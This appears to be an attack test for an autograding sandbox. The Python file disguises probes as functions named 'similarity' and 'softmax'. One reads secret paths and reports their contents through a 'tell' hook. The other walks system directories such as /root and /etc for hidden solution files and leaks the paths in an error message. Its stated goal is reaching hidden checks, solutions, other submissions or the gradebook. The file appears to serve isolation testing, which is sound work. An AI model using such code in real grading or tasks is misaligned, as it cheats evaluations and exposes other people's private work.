"""Opens what it knows the path of, and looks around where it doesn't.

Success: a byte of a hidden check, a solution, another hand-in, a result or the gradebook.
"""

import os

from tests.attacks.attacker import tell


def look(path):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as file:
        return file.read(300)


def similarity(x):
    places = "@SECRETS@".split()
    tell({str(number): lambda path=path: look(path) for number, path in enumerate(places)})


def softmax(x, axis=-1):
    found = []
    for top in ("/", "/home", "/root", "/tmp", "/var", "/srv", "/mnt", "/etc", "/opt"):
        for directory, folders, files in os.walk(top):
            if directory.count("/") > 4 or "site-packages" in directory or "/lib" in directory:
                folders.clear()
            found += [f"{directory}/{name}" for name in files if "attention" in name]
    found = [path for path in found if "/course/" not in path]
    raise RuntimeError(f"tried: a walk, found {found[:20]}")
